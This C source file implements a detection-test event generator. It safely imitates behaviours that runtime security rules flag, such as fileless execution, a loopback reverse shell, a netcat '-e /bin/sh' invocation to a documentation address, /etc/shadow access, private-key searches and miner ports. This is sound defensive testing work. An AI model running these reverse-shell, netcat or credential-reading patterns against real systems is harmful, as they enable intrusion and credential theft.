// SPDX-License-Identifier: Apache-2.0
/*
 * saker-eventgen: performs, safely, each behaviour the default rules detect,
 * so a user sees an alert for each on their own machine. Every action cleans
 * up after itself; files it creates are named saker-eventgen*. Network actions
 * use UDP connect to documentation addresses (192.0.2.0/24), which sends no
 * packet. Usage: saker-eventgen --list | --action NAME | --all
 */
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define TMPDIR "/tmp/saker-eventgen"

struct action {
	const char *name;
	const char *rules;     /* expected rules, ';' separated */
	int (*run)(void);
	const char *what;
};

static int quiet_wait(pid_t pid)
{
	int st = 0;

	waitpid(pid, &st, 0);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128;
}

/* Run argv in a child whose own name (comm) is `comm` before it execs. */
static int spawn(const char *comm_of_parent, char *const argv[], int keep_fd)
{
	pid_t mid = fork();

	if (mid < 0)
		return -1;
	if (mid == 0) {
		pid_t kid;

		if (comm_of_parent)
			prctl(PR_SET_NAME, comm_of_parent, 0, 0, 0);
		kid = fork();
		if (kid == 0) {
			if (keep_fd >= 0)
				fcntl(keep_fd, F_SETFD, 0);
			execv(argv[0], argv);
			_exit(127);
		}
		_exit(quiet_wait(kid));
	}
	return quiet_wait(mid);
}

static int write_file(const char *path, int flags, mode_t mode)
{
	int fd = open(path, flags | O_WRONLY | O_CREAT | O_CLOEXEC, mode);

	if (fd < 0) {
		fprintf(stderr, "  cannot create %s: %s\n", path, strerror(errno));
		return -1;
	}
	if (write(fd, "saker-eventgen\n", 15) < 0)
		perror("  write");
	close(fd);
	return 0;
}

static void tmpdir(void)
{
	mkdir(TMPDIR, 0700);
}

/* UDP connect: no packet leaves the machine. */
static int udp_connect_as(const char *comm, const char *ip, int port)
{
	pid_t pid = fork();

	if (pid == 0) {
		struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
		int s = socket(AF_INET, SOCK_DGRAM, 0);

		if (comm)
			prctl(PR_SET_NAME, comm, 0, 0, 0);
		inet_pton(AF_INET, ip, &a.sin_addr);
		if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)))
			_exit(1);
		close(s);
		_exit(0);
	}
	return quiet_wait(pid);
}

/* ------------------------------------------------------------- actions */

static int a_shell_from_server(void)
{
	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"true", NULL };

	return spawn("nginx", argv, -1);
}

static int a_db_spawn(void)
{
	char *argv[] = { (char *)"/bin/true", NULL };

	return spawn("mysqld", argv, -1);
}

static int a_memfd_exec(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		int src = open("/bin/true", O_RDONLY | O_CLOEXEC);
		int mfd = syscall(SYS_memfd_create, "saker-eventgen", 0);
		char buf[65536];
		ssize_t n;
		char *argv[] = { (char *)"saker-eventgen-memfd", NULL }, *envp[] = { NULL };

		if (src < 0 || mfd < 0)
			_exit(1);
		while ((n = read(src, buf, sizeof(buf))) > 0)
			if (write(mfd, buf, n) != n)
				_exit(1);
		fexecve(mfd, argv, envp);
		_exit(127);
	}
	return quiet_wait(pid);
}

static int a_devshm_exec(void)
{
	const char *path = "/dev/shm/saker-eventgen-true";
	char *argv[] = { (char *)path, NULL };
	int rc;

	if (spawn(NULL, (char *[]){ (char *)"/bin/cp", (char *)"/bin/true", (char *)path, NULL }, -1))
		return -1;
	chmod(path, 0755);
	rc = spawn(NULL, argv, -1);
	unlink(path);
	return rc;
}

static int a_netcat_exec(void)
{
	const char *nc = TMPDIR "/nc";
	char *argv[] = { (char *)nc, (char *)"-e", (char *)"/bin/sh", (char *)"192.0.2.1", (char *)"4444", NULL };
	int rc;

	tmpdir();
	unlink(nc);
	if (symlink("/bin/true", nc))
		return -1;
	rc = spawn(NULL, argv, -1);
	unlink(nc);
	return rc;
}

static int a_reverse_shell(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	socklen_t len = sizeof(a);
	int srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), cli, acc, rc;
	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"exec 0<&3 1>&3; true", NULL };

	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1) ||
	    getsockname(srv, (struct sockaddr *)&a, &len))
		return -1;
	cli = socket(AF_INET, SOCK_STREAM, 0);
	if (cli < 0 || connect(cli, (struct sockaddr *)&a, sizeof(a)))
		return -1;
	acc = accept4(srv, NULL, NULL, SOCK_CLOEXEC);
	if (cli != 3) { /* the shell expects the socket as fd 3 */
		if (dup2(cli, 3) < 0)
			return -1;
		close(cli);
	}
	rc = spawn(NULL, argv, 3);
	close(3);
	close(acc);
	close(srv);
	return rc;
}

static int a_read_shadow(void)
{
	int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return -1;
	close(fd);
	return 0;
}

static int a_search_keys(void)
{
	char *argv[] = { (char *)"/usr/bin/find", (char *)TMPDIR "-none", (char *)"-name", (char *)"id_rsa", NULL };

	spawn(NULL, argv, -1);
	return 0;
}

static int a_read_ssh(void)
{
	int fd;

	tmpdir();
	mkdir(TMPDIR "/.ssh", 0700);
	write_file(TMPDIR "/.ssh/config", O_TRUNC, 0600);
	fd = open(TMPDIR "/.ssh/config", O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		close(fd);
	unlink(TMPDIR "/.ssh/config");
	rmdir(TMPDIR "/.ssh");
	return fd >= 0 ? 0 : -1;
}

static int create_and_remove(const char *path)
{
	int rc = write_file(path, O_TRUNC, 0644);

	unlink(path);
	return rc;
}

static int a_write_etc(void) { return create_and_remove("/etc/saker-eventgen-test"); }
static int a_write_bin(void) { return create_and_remove("/usr/local/bin/saker-eventgen-test"); }
static int a_write_root(void) { return create_and_remove("/saker-eventgen-test"); }
static int a_dev_file(void) { return create_and_remove("/dev/saker-eventgen-test"); }

static int a_pkg_db(void)
{
	if (access("/var/lib/dpkg", F_OK))
		return -1;
	return create_and_remove("/var/lib/dpkg/saker-eventgen-test");
}

static int a_mkdir_bin(void)
{
	int rc = mkdir("/usr/local/bin/saker-eventgen-dir", 0755);

	rmdir("/usr/local/bin/saker-eventgen-dir");
	return rc;
}

static int a_cron(void)
{
	bool made_spool = access("/var/spool/cron", F_OK) != 0, made_tabs;
	int rc;

	mkdir("/var/spool/cron", 0755);
	made_tabs = access("/var/spool/cron/crontabs", F_OK) != 0;
	mkdir("/var/spool/cron/crontabs", 0730);
	rc = create_and_remove("/var/spool/cron/crontabs/saker-eventgen");
	if (made_tabs)
		rmdir("/var/spool/cron/crontabs");
	if (made_spool)
		rmdir("/var/spool/cron");
	return rc;
}

static int a_shell_config(void)
{
	tmpdir();
	return create_and_remove(TMPDIR "/.bashrc");
}

static int a_user_mgmt(void)
{
	const char *p = TMPDIR "/useradd";
	char *argv[] = { (char *)p, (char *)"--help", NULL };
	int rc;

	tmpdir();
	unlink(p);
	if (symlink("/bin/true", p))
		return -1;
	rc = spawn(NULL, argv, -1);
	unlink(p);
	return rc;
}

static int a_setuid_bit(void)
{
	const char *p = TMPDIR "/suid";
	int rc;

	tmpdir();
	write_file(p, O_TRUNC, 0755);
	rc = chmod(p, 04755);
	unlink(p);
	return rc;
}

static int a_non_sudo_setuid(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534))
			_exit(1);
		_exit(setuid(65534) ? 1 : 0);
	}
	return quiet_wait(pid);
}

static int a_setns(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		int fd = open("/proc/self/ns/uts", O_RDONLY | O_CLOEXEC);

		_exit(fd < 0 || setns(fd, CLONE_NEWUTS) ? 1 : 0);
	}
	return quiet_wait(pid);
}

static int a_ptrace_attach(void)
{
	pid_t kid = fork();
	int rc;

	if (kid == 0) {
		pause();
		_exit(0);
	}
	rc = ptrace(PTRACE_ATTACH, kid, 0, 0);
	if (rc == 0) {
		waitpid(kid, NULL, 0);
		ptrace(PTRACE_DETACH, kid, 0, 0);
	}
	kill(kid, SIGKILL);
	waitpid(kid, NULL, 0);
	return rc;
}

static int a_ptrace_traceme(void)
{
	pid_t kid = fork();

	if (kid == 0)
		_exit(ptrace(PTRACE_TRACEME, 0, 0, 0) ? 1 : 0);
	return quiet_wait(kid);
}

static int a_clear_log(void)
{
	const char *p = "/var/log/saker-eventgen.log";
	int rc;

	write_file(p, 0, 0644);
	rc = write_file(p, O_TRUNC, 0644);
	unlink(p);
	return rc;
}

static int a_history_delete(void)
{
	tmpdir();
	write_file(TMPDIR "/.bash_history", O_APPEND, 0600);
	return unlink(TMPDIR "/.bash_history");
}

static int a_symlink_sensitive(void)
{
	const char *p = TMPDIR "/shadow-link";
	int rc;

	tmpdir();
	unlink(p);
	rc = symlink("/etc/shadow", p);
	unlink(p);
	return rc;
}

static int a_hardlink_sensitive(void)
{
	const char *p = "/etc/saker-eventgen-hardlink";
	int rc = link("/etc/shadow", p);

	unlink(p);
	return rc;
}

static int a_kernel_module(void)
{
	static const char junk[64] = "saker-eventgen: not a module";

	syscall(SYS_init_module, junk, sizeof(junk), "");
	return 0; /* the attempt is the behaviour; it fails harmlessly */
}

static int a_bpf_load(void)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr)); /* no instructions: the kernel refuses */
	syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
	return 0;
}

static int a_release_agent(void)
{
	tmpdir();
	return create_and_remove(TMPDIR "/release_agent");
}

static int a_system_binary_network(void) { return udp_connect_as("cat", "192.0.2.1", 80); }
static int a_ssh_nonstandard(void) { return udp_connect_as("ssh", "192.0.2.1", 2222); }
static int a_miner_port(void) { return udp_connect_as(NULL, "192.0.2.1", 3333); }

static int a_packet_socket(void)
{
	int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	close(s);
	return 0;
}

static int a_stratum(void)
{
	char *argv[] = { (char *)"/bin/true", (char *)"--url", (char *)"stratum+tcp://pool.invalid:3333", NULL };

	return spawn(NULL, argv, -1);
}

static const struct action actions[] = {
	{ "shell_from_server", "Shell spawned by server process", a_shell_from_server, "a process named nginx runs /bin/sh -c true" },
	{ "database_spawn", "Database spawned process", a_db_spawn, "a process named mysqld runs /bin/true" },
	{ "memfd_exec", "Fileless execution via memfd_create", a_memfd_exec, "copies /bin/true into a memfd and runs it with fexecve" },
	{ "devshm_exec", "Execution from /dev/shm", a_devshm_exec, "copies /bin/true to /dev/shm, runs it, removes it" },
	{ "netcat_exec", "Netcat remote code execution", a_netcat_exec, "runs /bin/true under the name nc with -e /bin/sh" },
	{ "reverse_shell", "Reverse shell", a_reverse_shell, "a shell redirects stdin/stdout to a loopback TCP socket" },
	{ "read_shadow", "Read sensitive file untrusted", a_read_shadow, "opens /etc/shadow for reading" },
	{ "search_keys", "Search private keys or passwords", a_search_keys, "runs find -name id_rsa in an empty path" },
	{ "read_ssh", "Read ssh information by non-ssh program", a_read_ssh, "reads a file in a temporary .ssh directory" },
	{ "write_etc", "Write below etc", a_write_etc, "creates and removes /etc/saker-eventgen-test" },
	{ "write_bin", "Write below binary dir;Modify binary dirs", a_write_bin, "creates and removes /usr/local/bin/saker-eventgen-test" },
	{ "write_root", "Write below root", a_write_root, "creates and removes /saker-eventgen-test" },
	{ "package_db", "Write to package database", a_pkg_db, "creates and removes a file in /var/lib/dpkg" },
	{ "dev_file", "Create files below dev", a_dev_file, "creates and removes /dev/saker-eventgen-test" },
	{ "mkdir_bin", "Modify binary dirs", a_mkdir_bin, "creates and removes a directory in /usr/local/bin" },
	{ "cron", "Schedule cron jobs", a_cron, "writes and removes a crontab in /var/spool/cron/crontabs" },
	{ "shell_config", "Modify shell configuration file", a_shell_config, "writes and removes a temporary .bashrc" },
	{ "user_mgmt", "User management binary executed", a_user_mgmt, "runs /bin/true under the name useradd" },
	{ "setuid_bit", "Set setuid or setgid bit", a_setuid_bit, "sets the setuid bit on a temporary file" },
	{ "non_sudo_setuid", "Non sudo setuid", a_non_sudo_setuid, "a child becomes nobody and calls setuid" },
	{ "setns", "Change namespace privileges via unexpected setns", a_setns, "a child calls setns on its own uts namespace" },
	{ "ptrace_attach", "PTRACE attached to process", a_ptrace_attach, "attaches to its own sleeping child with ptrace" },
	{ "ptrace_traceme", "PTRACE anti-debug attempt", a_ptrace_traceme, "a child calls ptrace(PTRACE_TRACEME)" },
	{ "clear_log", "Clear log activities", a_clear_log, "truncates and removes /var/log/saker-eventgen.log" },
	{ "history_delete", "Delete or rename shell history", a_history_delete, "removes a temporary .bash_history" },
	{ "symlink_sensitive", "Create symlink over sensitive files", a_symlink_sensitive, "links /etc/shadow from a temporary symlink" },
	{ "hardlink_sensitive", "Create hardlink over sensitive files", a_hardlink_sensitive, "hard-links /etc/shadow, then removes the link" },
	{ "kernel_module", "Linux kernel module injection", a_kernel_module, "calls init_module with a non-module (refused)" },
	{ "bpf_load", "BPF program loaded by unexpected program", a_bpf_load, "calls bpf(BPF_PROG_LOAD) with an empty program (refused)" },
	{ "release_agent", "Detect release_agent file container escapes", a_release_agent, "writes a temporary file named release_agent" },
	{ "system_binary_network", "System binary opened network connection", a_system_binary_network, "a process named cat UDP-connects to 192.0.2.1:80 (no packet)" },
	{ "packet_socket", "Packet socket created", a_packet_socket, "opens and closes an AF_PACKET socket" },
	{ "ssh_nonstandard_port", "Outbound ssh to non-standard port", a_ssh_nonstandard, "a process named ssh UDP-connects to 192.0.2.1:2222 (no packet)" },
	{ "miner_pool_port", "Detect outbound connections to common miner pool ports", a_miner_port, "UDP-connects to 192.0.2.1:3333 (no packet)" },
	{ "stratum_cmdline", "Detect crypto miners using the Stratum protocol", a_stratum, "runs /bin/true with a stratum+tcp URL argument" },
	{ NULL, NULL, NULL, NULL },
};

static int run_one(const struct action *a)
{
	int rc;

	printf("%-24s %s\n", a->name, a->what);
	fflush(stdout);
	rc = a->run();
	if (rc)
		printf("  (the behaviour was attempted; it returned %d: %s)\n", rc, strerror(errno));
	return 0;
}

int main(int argc, char **argv)
{
	prctl(PR_SET_NAME, "saker-eventgen", 0, 0, 0);
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && !strcmp(argv[1], "--list")) {
		for (const struct action *a = actions; a->name; a++)
			printf("%-24s %s\n", a->name, a->rules);
		return 0;
	}
	if (argc == 2 && !strcmp(argv[1], "--all")) {
		for (const struct action *a = actions; a->name; a++)
			run_one(a);
		rmdir(TMPDIR);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "--action")) {
		for (const struct action *a = actions; a->name; a++)
			if (!strcmp(a->name, argv[2])) {
				run_one(a);
				rmdir(TMPDIR);
				return 0;
			}
		fprintf(stderr, "saker-eventgen: unknown action '%s' (see --list)\n", argv[2]);
		return 1;
	}
	fprintf(stderr, "usage: saker-eventgen --list | --action NAME | --all\n");
	return 1;
}
